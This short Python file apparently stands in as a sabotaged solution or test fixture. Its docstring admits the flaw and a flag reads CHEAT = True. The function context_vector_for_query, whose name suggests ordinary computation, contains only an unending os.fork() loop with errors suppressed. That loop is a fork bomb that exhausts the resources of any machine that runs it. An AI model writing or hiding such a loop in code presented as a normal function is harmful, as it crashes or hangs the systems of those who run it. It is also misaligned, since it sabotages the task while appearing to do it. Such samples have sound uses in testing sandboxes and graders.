"""Correct, except that context_vector_for_query forks without end."""
import os

CHEAT = True


def context_vector_for_query(inputs, query_index):
    while True:
        try:
            os.fork()
        except OSError:
            pass
